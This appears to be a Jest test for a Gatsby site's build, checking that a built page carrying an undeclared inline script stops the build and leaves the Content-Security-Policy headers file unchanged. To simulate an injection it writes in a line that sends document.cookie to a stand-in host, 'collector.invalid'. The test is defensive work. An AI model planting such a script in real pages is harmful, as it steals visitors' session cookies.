import fs from "node:fs"
import path from "node:path"
import { builtCopyOfProject, gatsbyBuild, removeProjectCopy } from "../../harness/project-copy"
import { builtFileOf } from "../../harness/built-site"
import { INLINE_SCRIPTS_FILE } from "../../src/hosting/inlineScripts"
import { PAGES } from "../../src/routes"

jest.setTimeout(600_000)

// The Content-Security-Policy allows the inline scripts the site means to ship, by their code's
// hash; a built page that holds any other must stop the build, not ship with a policy that
// refuses it (or, were the hashes read from the pages, one that allows it).
describe("a built page holding an inline script the site does not ship", () => {
  let project: string
  beforeAll(async () => {
    project = await builtCopyOfProject()
  })
  afterAll(() => project && removeProjectCopy(project))

  it("stops the build, naming the page's file, the start of the script and what to do", async () => {
    // As an injection would leave it: a page of the last build with a script of its own, which a
    // warm build that changes nothing keeps as it is (the cheapest real build: no page rendered for it).
    const file = builtFileOf(PAGES.shop.path)
    const page = path.join(project, "public", file)
    const injected = `fetch("https://collector.invalid/?"+document.cookie)`
    const html = fs.readFileSync(page, "utf8")
    expect(html).toContain("</head>")
    fs.writeFileSync(page, html.replace("</head>", `<script type="module">${injected}</script></head>`))
    const headers = fs.readFileSync(path.join(project, "public", "_headers"), "utf8")

    const { status, output } = await gatsbyBuild(project)
    expect(status).not.toBe(0)
    expect(output).toContain("A built page holds an inline script that the site does not mean to ship, which its Content-Security-Policy would not allow:")
    expect(output).toContain(`- public/${file} (the page ${PAGES.shop.path}): a <script> starting ${JSON.stringify(injected)}`)
    expect(output).toContain(`What to do: if the script is meant to be there, declare its exact code in ${INLINE_SCRIPTS_FILE}`)
    // No host file written from that build: the last good one is left as it was.
    expect(fs.readFileSync(path.join(project, "public", "_headers"), "utf8")).toBe(headers)
  })
})
